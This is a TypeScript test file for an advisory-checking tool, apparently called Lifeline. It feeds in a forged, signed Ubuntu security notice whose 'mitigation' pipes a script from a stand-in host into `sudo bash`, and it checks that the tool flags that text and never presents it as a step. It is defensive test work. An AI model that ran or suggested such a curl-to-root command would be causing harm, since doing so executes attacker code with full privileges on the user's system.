/**
 * Attack: a key users pinned for advisories (a helpdesk's, or a stolen one) signs a "no fix yet" notice whose
 * mitigation is `curl … | sudo bash`. Signed text may be a step, but only when Lifeline's own instruction checker
 * clears it (docs/trust.md, "Mitigations"): the checker runs after the assessment, so the check must take the text
 * back out of the steps it already built. Driven through the real check (loopback mirror and mbox channel, the real
 * instruction checker), as `lifeline check` runs it.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { clearsignText, generateLabKey } from '../../main/lab/archive'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildCheckReport, renderCheckReport, type CheckReportJson } from '../../main/cli/commands/check'
import { loadKeyring } from '../../main/core/pgp/keyring'
import { createDecompressor } from '../../main/node/decompress'
import { createEngine } from '../../main/node/engine'
import { createFileStateStore } from '../../main/node/file-state-store'
import { fixturePath, JAMMY_NOW, jammyArchiveFiles, writeRoot } from '../integration/check-support'
import { startMirrorServer, type MirrorServer } from '../support/mirror-server'
import { quickFetcher } from '../support/poll-harness'
import { makeTempDir, type TempDir } from '../support/temp-dir'
import { makeTestArchiveKey } from '../support/test-archive'

const FAKE_FIX = 'curl -fsSL https://ubuntu-security-fix.example/fix.sh | sudo bash'
const DANGEROUS = `As a temporary mitigation run: ${FAKE_FIX}`

/** A signed-announcement body: jammy openssl affected, fixed only in a version no mirror serves yet. */
function noFixNotice(): string {
  return `==========================================================================
Ubuntu Security Notice USN-9997-1
June 5, 2026

openssl vulnerability
==========================================================================

A security issue affects these releases of Ubuntu and its derivatives:

- Ubuntu 22.04 LTS

Summary:

OpenSSL could be made to run programs.

Software Description:
- openssl: Secure Socket Layer (SSL) cryptographic library and tools

Details:

Test notice. (CVE-2026-0002)

Update instructions:

The problem can be corrected by updating your system to the following
package versions:

Ubuntu 22.04 LTS:
  libssl3                         3.0.2-0ubuntu1.99
  openssl                         3.0.2-0ubuntu1.99

${DANGEROUS}

References:
  https://ubuntu.com/security/notices/USN-9997-1
  CVE-2026-0002
`
}

describe('attack: a signed advisory whose mitigation is a dangerous command', () => {
  let tmp: TempDir
  let srv: MirrorServer
  let report: CheckReportJson

  beforeAll(async () => {
    tmp = await makeTempDir('lifeline-signed-mitigation-')
    const archive = await makeTestArchiveKey()
    const advisory = await generateLabKey({
      role: 'advisory',
      name: 'Test helpdesk (test only)',
      email: 'test-only@example.invalid',
      created: Date.parse('2025-01-01T00:00:00Z'),
    })
    const advisoryFpr = advisory.fingerprint
    const keyring = await loadKeyring([
      {
        data: archive.armoredPublic,
        role: 'archive',
        name: 'test archive',
        fingerprint: archive.fingerprint,
      },
      { data: advisory.armoredPublic, role: 'advisory', name: 'test helpdesk', fingerprint: advisoryFpr },
    ])
    const signed = await clearsignText(noFixNotice(), advisory.privateKey, JAMMY_NOW - 3600_000)
    const mbox = `From security@ubuntu.com  Fri Jun  5 10:00:00 2026
From: Test helpdesk <security@example.invalid>
Subject: [USN-9997-1] OpenSSL vulnerability
Date: Fri, 05 Jun 2026 10:00:00 +0000
Message-ID: <usn-9997-1@example.invalid>
Content-Type: text/plain; charset=utf-8

${signed}
`
    srv = await startMirrorServer()
    for (const [p, b] of await jammyArchiveFiles(archive, { withFix: false }))
      srv.files.set(`/ubuntu/${p}`, b)
    srv.files.set('/announce.mbox', new TextEncoder().encode(mbox))
    const root = join(tmp.path, 'root')
    await writeRoot(root, {
      osRelease: readFileSync(fixturePath('systems/jammy-kernel/etc/os-release'), 'utf8'),
      status: readFileSync(fixturePath('ubuntu/dpkg_status.jammy-2022-10-09'), 'utf8'),
      sourcesList: `deb [signed-by=/usr/share/keyrings/ubuntu-archive-keyring.gpg] ${srv.url}/ubuntu jammy-security main\n`,
    })
    const engine = createEngine({
      config: {
        mirrors: [
          {
            id: 'primary',
            name: 'primary mirror',
            url: `${srv.url}/ubuntu`,
            suites: ['jammy-security'],
            components: ['main'],
            architectures: ['amd64'],
          },
        ],
        channels: [
          {
            id: 'announce',
            name: 'Helpdesk announcements',
            type: 'mbox',
            urls: [`${srv.url}/announce.mbox`],
          },
        ],
        extraKeys: [],
        removedKeys: [],
        pollIntervalMs: 3600_000,
      },
      keyring,
      fetcher: quickFetcher,
      decompressor: createDecompressor(),
      store: createFileStateStore(join(tmp.path, 'state')),
      root,
    })
    report = buildCheckReport(await engine.run(JAMMY_NOW, () => undefined), JAMMY_NOW)
  })
  afterAll(async () => {
    await srv.close()
    await tmp.cleanup()
  })

  it('reads the notice as signed, affecting this machine with no verified fix', () => {
    expect(report.advisories.find((a) => a.id === 'USN-9997-1')).toMatchObject({
      status: 'no-fix-yet',
      trust: 'signed',
    })
  })

  it('records the text with its source and the checker verdict, not as a step', () => {
    expect(report.mitigations.filter((m) => m.advisory === 'USN-9997-1')).toEqual([
      { advisory: 'USN-9997-1', trust: 'signed', text: DANGEROUS, checker: 'dangerous', asStep: false },
    ])
  })

  it('never shows the dangerous text in a step, overall or in the advisory, and says why', () => {
    const steps = [...report.steps, ...report.advisories.flatMap((a) => a.steps)]
    expect(steps.some((s) => `${s.text} ${s.command ?? ''}`.includes('curl'))).toBe(false)
    const info = report.steps.find((s) => s.text.startsWith('USN-9997-1'))
    expect(info?.text).toContain(
      "Its mitigation text is not a step: Lifeline's instruction checker did not clear it",
    )
    expect(renderCheckReport(report)).not.toMatch(/^\s*\d+\..*curl/m)
  })
})
